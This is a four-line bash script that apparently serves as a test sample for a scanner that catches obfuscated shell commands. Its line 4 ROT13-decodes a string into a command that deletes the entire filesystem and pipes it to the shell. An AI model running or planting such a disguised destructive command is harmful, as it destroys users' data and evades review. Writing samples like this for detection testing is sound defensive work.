#!/bin/bash
# shows: letters rotated
# expect: decoded-to-shell at line 4
echo 'ez -es /' | tr a-z n-za-m | sh
